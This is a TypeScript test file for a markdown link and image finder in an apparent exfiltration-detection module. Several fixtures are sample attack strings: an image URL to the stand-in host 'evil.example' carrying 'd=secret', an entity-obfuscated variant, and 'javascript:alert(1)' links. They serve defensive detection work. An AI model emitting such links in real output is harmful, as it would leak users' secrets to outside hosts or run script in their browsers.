/**
 * Tests for markdown links and images: exact spans, kinds, texts and destinations of inline and reference-style
 * links and images and of autolinks, with the CommonMark rules that decide what is a link (escapes, nesting,
 * labels, definitions).
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { findLinks } from '../../../src/detect/exfiltration/links.ts';
import { only, seen } from './find-links.ts';

describe('findLinks: inline markdown', () => {
  it('reports an image with its exact span, alt text and URL', () => {
    const text = 'Here: ![chart](https://evil.example/p?d=secret) done';
    const [span] = findLinks(text);
    assert.ok(span);
    assert.equal(span.start, 6);
    assert.equal(span.end, 47);
    assert.deepEqual(seen(text), [
      { kind: 'image', source: '![chart](https://evil.example/p?d=secret)', text: 'chart', urls: ['https://evil.example/p?d=secret'] },
    ]);
  });

  it('reports a link and an image with an empty alt', () => {
    assert.deepEqual(seen('[docs](https://docs.example/a) ![](https://i.example/x.png)'), [
      { kind: 'link', source: '[docs](https://docs.example/a)', text: 'docs', urls: ['https://docs.example/a'] },
      { kind: 'image', source: '![](https://i.example/x.png)', text: '', urls: ['https://i.example/x.png'] },
    ]);
  });

  it('covers every title form', () => {
    for (const title of ['"a title"', "'a title'", '(a title)']) {
      const source = `![x](https://i.example/p.png ${title})`;
      assert.deepEqual(only(`see ${source}.`), { kind: 'image', source, text: 'x', urls: ['https://i.example/p.png'] });
    }
  });

  it('strips angle brackets from a destination, which may then hold spaces', () => {
    assert.deepEqual(only('[a](<https://x.example/a b> "t")'), {
      kind: 'link',
      source: '[a](<https://x.example/a b> "t")',
      text: 'a',
      urls: ['https://x.example/a b'],
    });
  });

  it('keeps balanced parentheses inside the destination', () => {
    assert.deepEqual(only('[wiki](https://x.example/a_(b)_c) end').urls, ['https://x.example/a_(b)_c']);
    assert.equal(only('[wiki](https://x.example/a_(b)_c) end').source, '[wiki](https://x.example/a_(b)_c)');
  });

  it('allows nested brackets and one line break in the link text, not a blank line', () => {
    assert.deepEqual(only('[a [b] c](u)'), { kind: 'link', source: '[a [b] c](u)', text: 'a [b] c', urls: ['u'] });
    assert.deepEqual(only('[two\nlines](u)'), { kind: 'link', source: '[two\nlines](u)', text: 'two\nlines', urls: ['u'] });
    assert.deepEqual(seen('[two\n\nparagraphs](u)'), []);
  });

  it('needs `](` without whitespace between', () => {
    assert.deepEqual(seen('[a] (https://x.example/)'), [{ kind: 'url', source: 'https://x.example/', text: 'https://x.example/', urls: ['https://x.example/'] }]);
    assert.deepEqual(seen('[a]\n(u)'), []);
  });

  it('honours backslash escapes', () => {
    assert.deepEqual(seen('\\[not](a link)'), []);
    assert.deepEqual(seen('[a\\]b](u)'), [{ kind: 'link', source: '[a\\]b](u)', text: 'a\\]b', urls: ['u'] }]);
    // An escaped `!` leaves a link, not an image.
    assert.deepEqual(only('\\![x](https://i.example/p.png)').kind, 'link');
    assert.deepEqual(only('\\![x](https://i.example/p.png)').source, '[x](https://i.example/p.png)');
  });

  it('rejects unbalanced parentheses in a destination', () => {
    assert.deepEqual(seen('[a](b(c)'), []);
  });

  it('does not let a link contain a link', () => {
    assert.deepEqual(seen('[a [b](u1) c](u2)'), [{ kind: 'link', source: '[b](u1)', text: 'b', urls: ['u1'] }]);
  });

  it('reports an image inside a link once, as an image, with both URLs', () => {
    assert.deepEqual(only('[![alt](https://img.example/a.png)](https://href.example/)'), {
      kind: 'image',
      source: '[![alt](https://img.example/a.png)](https://href.example/)',
      text: 'alt',
      urls: ['https://img.example/a.png', 'https://href.example/'],
    });
  });

  it('resolves character references and escapes in a destination, as renderers do', () => {
    assert.deepEqual(only('![x](&#104;ttps://evil.example/p)').urls, ['https://evil.example/p']);
    assert.deepEqual(only('[y](javascript&colon;alert(1))').urls, ['javascript:alert(1)']);
    assert.deepEqual(only('[z](https:\\/\\/x.example)').urls, ['https://x.example']);
  });
});

describe('findLinks: reference links', () => {
  const doc = 'Read [the guide][g] and ![logo][Logo  Img].\n\n[g]: https://guide.example/x "Guide"\n[logo img]: <https://cdn.example/l.png>\n';

  it('reports each use with the URL of its definition, and each definition line', () => {
    assert.deepEqual(seen(doc), [
      { kind: 'link', source: '[the guide][g]', text: 'the guide', urls: ['https://guide.example/x'] },
      { kind: 'image', source: '![logo][Logo  Img]', text: 'logo', urls: ['https://cdn.example/l.png'] },
      { kind: 'link', source: '[g]: https://guide.example/x "Guide"', text: '', urls: ['https://guide.example/x'] },
      { kind: 'image', source: '[logo img]: <https://cdn.example/l.png>', text: '', urls: ['https://cdn.example/l.png'] },
    ]);
  });

  it('resolves collapsed and shortcut references only through a definition', () => {
    assert.deepEqual(seen('[Ref][] and [ref] and [nope]\n\n[ref]: /r'), [
      { kind: 'link', source: '[Ref][]', text: 'Ref', urls: ['/r'] },
      { kind: 'link', source: '[ref]', text: 'ref', urls: ['/r'] },
      { kind: 'link', source: '[ref]: /r', text: '', urls: ['/r'] },
    ]);
    assert.deepEqual(seen('[ref] and [ref][] without a definition'), []);
  });

  it('does not fall back to the link text when an explicit label is undefined', () => {
    assert.deepEqual(seen('[foo][bar]\n\n[foo]: /f').map((s) => s.source), ['[foo]: /f']);
  });

  it('reports an unused definition without its line break', () => {
    const text = 'Intro.\n\n[unused]: https://u.example/a\nNext line.';
    assert.deepEqual(seen(text), [{ kind: 'link', source: '[unused]: https://u.example/a', text: '', urls: ['https://u.example/a'] }]);
  });

  it('lets the first of two definitions win', () => {
    const spans = seen('[a]\n\n[a]: /first\n[a]: /second');
    assert.deepEqual(spans.map((s) => [s.source, s.urls[0]]), [
      ['[a]', '/first'],
      ['[a]: /first', '/first'],
      ['[a]: /second', '/second'],
    ]);
  });

  it('finds definitions inside list items and quotes', () => {
    assert.deepEqual(seen('- [a]: https://x.example/\n\n![i][A]').map((s) => [s.kind, s.source]), [
      ['image', '[a]: https://x.example/'],
      ['image', '![i][A]'],
    ]);
    assert.deepEqual(seen('> [q]: /quoted\n\n[q]').map((s) => s.source), ['[q]: /quoted', '[q]']);
  });

  it('ignores a definition inside fenced code', () => {
    assert.deepEqual(seen('```\n[a]: /x\n```\n\n[a]'), []);
  });
});

describe('findLinks: autolinks', () => {
  it('reports URI and e-mail autolinks as links covering the angle brackets', () => {
    assert.deepEqual(seen('<https://auto.example/a?b=c> and <a.b@mail.example>'), [
      { kind: 'link', source: '<https://auto.example/a?b=c>', text: 'https://auto.example/a?b=c', urls: ['https://auto.example/a?b=c'] },
      { kind: 'link', source: '<a.b@mail.example>', text: 'a.b@mail.example', urls: ['mailto:a.b@mail.example'] },
    ]);
  });

  it('reports scheme autolinks of any scheme', () => {
    assert.deepEqual(only('<mailto:x@y.example>').urls, ['mailto:x@y.example']);
    assert.deepEqual(only('click <javascript:alert(1)>').urls, ['javascript:alert(1)']);
  });

  it('rejects spaces inside an autolink', () => {
    assert.deepEqual(seen('<https://a.example/x y>').map((s) => s.kind), ['url']);
  });
});
